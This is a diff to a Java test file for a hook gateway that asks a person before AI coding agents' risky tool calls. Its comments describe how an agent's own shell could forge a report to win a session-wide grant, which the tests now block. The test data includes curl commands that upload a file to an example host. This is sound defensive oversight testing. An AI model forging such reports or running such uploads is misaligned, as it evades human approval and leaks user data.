@@ -167,8 +167,14 @@ class HookFlowTest {
         .contains("curl -s https://x.example.org/");
   }
 
+  /**
+   * Issue 75: the report comes over the home's socket, where any process of the user can post one
+   * (the agent's own shell among them), so it is kept as a call that ran and grants nothing: the
+   * same upload asks again. A grant needs the person's yes on one of the gateway's own channels
+   * (decision 82).
+   */
   @Test
-  void theAgentsReportThatTheAskedUploadRanGrantsItsHostForTheSession() {
+  void theAgentsReportThatTheAskedUploadRanGrantsNothingAndTheSameUploadAsksAgain() {
     call(AgentKind.CLAUDE, "PreToolUse", "WebFetch", FETCH).join();
     call(AgentKind.CLAUDE, "PostToolUse", "WebFetch", FETCH).join();
     assertThat(call(AgentKind.CLAUDE, "PreToolUse", "Bash", UPLOAD).join().word()).isEqualTo("ask");
@@ -177,18 +183,32 @@ class HookFlowTest {
 
     assertThat(report.body()).isEqualTo("{}");
     assertThat(report.word()).isEqualTo("allow");
-    assertThat(report.note()).contains("kept for the session");
-    assertThat(call(AgentKind.CLAUDE, "PreToolUse", "Bash", UPLOAD).join().word())
-        .isEqualTo("allow");
-    assertThat(
-            call(
-                    AgentKind.CLAUDE,
-                    "PreToolUse",
-                    "Bash",
-                    "{\"command\":\"curl -d @a.txt https://other.example.com/\"}")
-                .join()
-                .word())
+    assertThat(report.note()).contains("ran").doesNotContain("kept for the session");
+    assertThat(call(AgentKind.CLAUDE, "PreToolUse", "Bash", UPLOAD).join().word()).isEqualTo("ask");
+    SessionPast past = flows.past(SessionFlows.agentKey("CLAUDE", "s-1"), null);
+    assertThat(past.sent()).as("the upload that ran is kept all the same").isNotEmpty();
+  }
+
+  /**
+   * A report posted for an agent whose hooks report nothing (Copilot CLI: setup writes no
+   * after-tool hook) must not make the session wait for reports that never come: its asked calls
+   * are still counted at once, so a forged report cannot leave an untrusted read uncounted.
+   */
+  @Test
+  void aReportForAnAgentWithoutAfterToolHooksLeavesItsAskedCallsCountedAtOnce() {
+    call(AgentKind.COPILOT, "postToolUse", "bash", "{\"command\":\"ls\"}").join();
+    call(
+            AgentKind.COPILOT,
+            "preToolUse",
+            "bash",
+            "{\"command\":\"curl -s https://x.example.org/\"}")
+        .join();
+    assertThat(call(AgentKind.COPILOT, "preToolUse", "bash", UPLOAD).join().word())
         .isEqualTo("ask");
+
+    SessionPast past = flows.past(SessionFlows.agentKey("COPILOT", "s-1"), null);
+
+    assertThat(past.sent()).as("the asked upload counted at once").isNotEmpty();
   }
 
   @Test
